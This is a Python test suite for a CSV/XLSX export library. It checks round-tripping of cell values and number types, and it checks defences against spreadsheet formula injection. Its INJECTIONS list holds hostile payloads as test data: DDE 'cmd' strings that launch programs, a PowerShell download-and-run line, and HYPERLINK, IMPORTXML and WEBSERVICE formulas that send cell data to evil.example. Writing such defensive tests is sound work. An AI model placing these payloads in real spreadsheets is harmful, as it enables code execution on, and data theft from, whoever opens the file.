"""What is read back is what was written, numbers are numbers, and no cell begins as a formula would."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from xml.etree import ElementTree
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from learnenv.tables import Row, Run, csv_chunks, csv_text, write_xlsx
from learnenv.tables.csv_file import Mark
from learnenv.tables.safe import is_formula_like, writable
from learnenv.tables.xlsx_text import LONGEST, fitting
from learnenv.testing.record_samples import NAUGHTY

NOW = datetime(2026, 3, 2, 9, 30, 15, tzinfo=UTC)
BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "\u200b=",
    " =",
    "\ufeff+",
    "\u00a0@",
)


@pytest.fixture(autouse=True, scope="module")
def long_fields() -> Iterator[None]:
    """Read back cells of any length; the limit is the whole process's, so it is put back for who counts on it."""
    before = csv.field_size_limit(10_000_000)
    yield
    csv.field_size_limit(before)


INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1+1",
    "''",
    "%0A=1",
    "_x0041_",
    ";=1+1",
    'DDE ("cmd";"/C calc";"!A0")A0',
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget evil.example/x.exe)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IMPORTFEED(CONCAT("http://evil.example?v=", A1))',
    '=IMPORTHTML("http://evil.example","table",1)',
    '=IMPORTRANGE("http://evil.example","x")',
    '=IMAGE("http://evil.example?v="&A1)',
    '=WEBSERVICE("http://evil.example?v="&A1)',
    "=AND(2>1)+cmd|' /C calc'!A0",
    "==cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "﹢cmd|' /C calc'!A0",
    "\u200b\u2060=1+1",
    "\x0b=1+1",
    "\u2028=1+1",
    "x;=1+1;y",
    "x; \t-1+1",
    "x,@A1,y",
    "x\n=1+1",
    "x\r\n＋1\r\n",
    '";=1+1;"',
    "a\t=1+1",
)
TEXTS = st.one_of(
    st.text(),
    st.sampled_from([*INJECTIONS, *(text[:500] for text in NAUGHTY)]),
    st.builds(str.__add__, st.sampled_from(BEGINNINGS), st.text()),
)


def _joined(texts: list[str]) -> st.SearchStrategy[str]:
    """One text with what could begin a cell inside it."""
    return st.sampled_from([";", ",", "\t", "\n", "\r\n", '";', '",', '"\n']).map(lambda between: between.join(texts))


def begins_a_formula(cell: str) -> bool:
    """Said here once more, and by hand: what is tested must not be what tells."""
    return cell.lstrip("\u200b\u2060\ufeff\u00a0\u2028\x0b ")[:1] in tuple("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫")


def read_as(mark: str, text: str) -> list[list[str]]:
    """The rows as a program reads them that is set to this mark."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=mark))


def csv_of(rows: Sequence[Row], head: Sequence[str] = ("a",)) -> bytes:
    return b"".join(csv_chunks(head, rows))


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]


def read_xlsx(rows: Sequence[Row], head: Sequence[str] = ("a",)) -> list[list[openpyxl.cell.cell.Cell]]:
    file = io.BytesIO()
    write_xlsx(file, "Blad", head, rows)
    book = openpyxl.load_workbook(file)
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows(min_row=2)]


def kept_in_xlsx(texts: Sequence[str]) -> list[str]:
    """The texts as they are in the file, by the letter of ECMA-376: openpyxl loses some codes for characters."""
    file = io.BytesIO()
    write_xlsx(file, "Blad", ["head"], [texts])
    with ZipFile(file) as book:
        shared = [each.findtext("{*}t") for each in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
        row = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml")).findall("{*}sheetData/{*}row")[1]
    found = [
        shared[int(each.findtext("{*}v") or 0)] if each.get("t") == "s" else each.findtext("{*}is/{*}t")
        for each in row
    ]
    return [re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), each or "") for each in found]


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_every_text_in_csv_is_read_back_and_begins_no_formula(texts: list[str]) -> None:
    [cells] = read_csv(csv_of([texts], texts))
    assert [csv_text(each) for each in cells] == [writable(each) for each in texts]
    assert not [each for each in cells if is_formula_like(each)]


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=4).flatmap(_joined), min_size=2, max_size=2))
@pytest.mark.parametrize("mark", [",", ";"])
def test_a_spreadsheet_that_is_set_to_another_mark_calculates_nothing_either(mark: Mark, texts: list[str]) -> None:
    """It takes the quotes of all columns but the first for letters, and begins a cell at its own mark."""
    data = b"".join(csv_chunks(["a", "b"], [texts], mark)).decode("utf-8-sig")
    assert [csv_text(each, mark) for each in read_as(mark, data)[1]] == [writable(each) for each in texts]
    cells = [cell for row in read_as(";" if mark == "," else ",", data) for cell in row]
    assert not [cell for cell in cells if begins_a_formula(cell.lstrip())]


@settings(max_examples=15)
@given(st.lists(TEXTS, min_size=1, max_size=20))
def test_every_text_in_xlsx_is_typed_text_and_read_back(texts: list[str]) -> None:
    [cells] = read_xlsx([[*texts, "end"]], [*texts, "end"])
    assert kept_in_xlsx([*texts, "end"])[:-1] == [fitting(each) for each in texts]
    assert {each.data_type for each in cells if each.value} == {"s"}
    assert not [each for each in cells if each.value and is_formula_like(str(each.value)) and not each.quotePrefix]


@pytest.mark.parametrize("text", [*INJECTIONS, *BEGINNINGS])
def test_what_was_used_before_to_inject_is_seen(text: str) -> None:
    [[cell]] = read_csv(csv_of([[text]]))
    assert not begins_a_formula(cell)
    assert csv_text(cell) == text
    other = [cell for row in read_as(";", csv_of([["x", text]], ["a", "b"]).decode("utf-8-sig")) for cell in row]
    assert not [cell for cell in other if begins_a_formula(cell.lstrip())]


@pytest.mark.parametrize("text", BEGINNINGS)
def test_however_a_formula_begins_it_is_guarded(text: str) -> None:
    [[cell]] = read_csv(csv_of([[f"{text}1+1"]]))
    assert cell == f"'{text}1+1"


@pytest.mark.parametrize("text", ["", "gewoon", "a=b", "1+1", "'s avonds", "e-mail", "(=1)"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not is_formula_like(text)


@given(st.one_of(st.integers(-(2**53), 2**53), st.floats(allow_nan=False, allow_infinity=False, width=64)))
def test_numbers_are_numbers_to_the_last_digit_in_csv(number: float) -> None:
    raw = csv_of([[number]]).decode("utf-8-sig").splitlines()[1]
    assert type(number)(raw) == number


def test_numbers_and_moments_are_of_their_type_in_xlsx() -> None:
    [cells] = read_xlsx([[1, -2.5, 2 / 3, NOW, None, 2**70, "-5"]], list("abcdefg"))
    values = [each.value for each in cells]
    assert values == [1, -2.5, pytest.approx(2 / 3, abs=1e-15), NOW.replace(tzinfo=None), None, str(2**70), "-5"]
    assert [each.data_type for each in cells] == ["n", "n", "n", "d", "n", "s", "s"]


def test_a_moment_in_csv_is_one_that_a_spreadsheet_knows() -> None:
    assert read_csv(csv_of([[NOW, None]])) == [["2026-03-02 09:30:15", ""]]


def test_text_longer_than_a_cell_is_cut_where_one_sees_it() -> None:
    [[cell]] = read_xlsx([["😀" * 20_000]])
    assert len(str(cell.value).encode("utf-16-le")) // 2 <= LONGEST
    assert str(cell.value).endswith("😀…")
    assert csv_text(read_csv(csv_of([["x" * 200_000]]))[0][0]) == "x" * 200_000


def test_more_rows_than_a_sheet_holds_go_on_to_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("learnenv.tables.xlsx_file.MOST_ROWS", 3)
    cells = read_xlsx([[number] for number in range(8)])
    assert [row[0].value for row in cells] == list(range(8))


def test_more_than_a_sheet_should_weigh_goes_on_to_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("learnenv.tables.xlsx_file.MOST_BYTES", 10_000)
    monkeypatch.setattr("learnenv.tables.writing._AT_ONCE", 200)
    file = io.BytesIO()
    write_xlsx(file, "Blad", ["a"], ([number] for number in range(1600)))
    book = openpyxl.load_workbook(file)
    assert book.sheetnames == ["Blad", "Blad 2"]
    found = [row[0].value for sheet in book.worksheets for row in sheet.iter_rows(min_row=2)]
    assert found == list(range(1600))
    assert {sheet["A1"].value for sheet in book.worksheets} == {"a"}


def test_no_rows_are_a_sheet_with_a_head() -> None:
    assert read_xlsx([]) == []
    assert csv_of([]) == b'\xef\xbb\xbf"a"\r\n'


def test_texts_past_the_shared_ones_stand_in_their_cells(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("learnenv.tables.xlsx_file.MOST_SHARED", 3)
    cells = read_xlsx([[f"text <{number}> & \n"] for number in range(8)])
    assert [row[0].value for row in cells] == [f"text <{number}> & \n" for number in range(8)]


def test_a_run_is_the_cells_that_are_in_it() -> None:
    """However often it comes back, and whatever stands beside it."""
    cells = ("=a", 1, 1.0, None, NOW, 'b,"', 2**70)
    run = Run(cells)
    loose, joined = [[*cells, number, *cells] for number in range(700)], [[run, number, run] for number in range(700)]
    head = [str(number) for number in range(15)]
    assert csv_of(joined, head) == csv_of(loose, head)
    values = [[[each.value for each in row] for row in read_xlsx(rows, head)] for rows in (joined, loose)]
    assert values[0] == values[1]


def test_equal_numbers_of_two_types_are_written_as_they_are() -> None:
    assert csv_of([[1, 1.0], [1.0, 1]], ["a", "b"]).decode("utf-8-sig").splitlines()[1:] == ["1,1.0", "1.0,1"]


def test_csv_comes_in_pieces() -> None:
    rows = ([number] for number in range(4800))
    assert len(list(csv_chunks(["a"], rows))) == 4
